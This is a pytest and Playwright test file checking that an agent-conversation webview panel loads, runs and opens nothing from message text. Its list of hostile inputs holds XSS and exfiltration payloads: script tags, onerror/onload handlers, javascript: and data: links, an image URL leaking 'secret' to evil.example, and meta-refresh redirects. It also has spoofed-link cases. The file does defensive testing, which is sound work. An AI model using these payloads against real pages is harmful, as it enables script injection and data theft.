"""What an agent's text may not do: load, run, spoof, or open anything by itself."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.panel.panel import Panel, agent, talk, tool, user

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png\n",
    '<img src="https://evil.example/b.png" onerror="window.owned = 1">',
    "<script>window.owned = 1</script>",
    '<iframe src="https://evil.example"></iframe>',
    "[x](javascript:window.owned=1)",
    "[x](command:workbench.action.quit)",
    "[x](vscode://evil/run)",
    '[x](https://e.example/"onclick="window.owned=1)',
    "<style>* { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/c.css">',
    "```html\n<img src=https://evil.example/d.png>\n```",
    '<svg onload="window.owned = 1"></svg>',
    "[a](data:text/html,<script>window.owned=1</script>)",
    '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
    '<form action="https://evil.example"><button>ok</button></form>',
    "<base href='https://evil.example'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_loads_and_runs_nothing(panel: Panel, text: str) -> None:
    before = panel.page.url
    panel.send(*talk(user(text), agent(text), tool(text=text, title=text, output=text)))
    for button in panel.page.locator(".tool .fold").all():
        button.click()
    panel.settle()
    assert [one for one in panel.requests if "evil" in one] == []
    assert panel.page.evaluate("window.owned") is None
    assert (
        panel.page.locator("[href], [src]:not(script), [onclick], [onerror], [style*=url]").count() == 1
    )  # our style sheet
    assert panel.page.url == before
    assert panel.errors == []


def test_the_policy_holds_even_where_the_page_would_not(panel: Panel) -> None:
    """As if the sanitiser had let it through."""
    panel.send(*talk())
    panel.page.evaluate(
        """() => {
          document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png"><img src="/webview.css">');
          for (const text of ['window.owned = 1']) {
            const script = document.createElement('script');
            script.textContent = text;
            document.body.append(script);
          }
          return fetch('https://evil.example/f').catch(() => null);
        }"""
    )
    panel.settle()
    asked = [one for one in panel.requests if "evil" in one]
    assert sorted(asked) == sorted(one for one in panel.refused if "evil" in one)
    assert panel.page.evaluate("window.owned") is None
    assert len(panel.errors) >= 3  # each refusal is reported


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("[docs](https://docs.example/a)", "docs (docs.example)"),
        ("https://docs.example/a", "https://docs.example/a"),
        ("[https://bank.example](https://evil.example)", "https://bank.example (evil.example)"),
        ("[the file](src/a.py)", "the file (src/a.py)"),
        ("[a](<https://e.example/\u202egpj.exe>)", "a (e.example)"),
    ],
)
def test_links_show_where_they_lead(panel: Panel, source: str, shown: str) -> None:
    panel.send(*talk(agent(source)))
    expect(panel.page.locator(".markdown")).to_have_text(shown)


def test_a_link_opens_after_a_click_only_and_through_the_extension(panel: Panel) -> None:
    panel.send(*talk(agent("[docs](https://docs.example/a?b=c)")))
    link = panel.page.get_by_role("link", name="docs")
    link.hover()
    assert link.get_attribute("title") == "https://docs.example/a?b=c"
    assert panel.of("openLink") == []
    link.click()
    assert panel.got("openLink")[0]["href"] == "https://docs.example/a?b=c"
    link.press("Enter")
    assert len(panel.got("openLink", 2)) == 2
    assert [one for one in panel.requests if "docs.example" in one] == []


def test_messages_that_do_not_fit_are_dropped(panel: Panel) -> None:
    panel.send(*talk(agent("hello")))
    panel.errors.clear()
    for message in (
        None,
        "text",
        {"type": "nonsense"},
        {"type": "conversation", "sessionId": "s", "entries": [{"id": "x", "kind": "html", "html": "<b>"}]},
        {"type": "overview", "overview": {"agents": "all"}},
    ):
        panel.page.evaluate("(one) => window.postMessage(one, '*')", message)
    panel.settle()
    expect(panel.page.get_by_text("hello")).to_be_visible()
    assert len(panel.errors) == 5
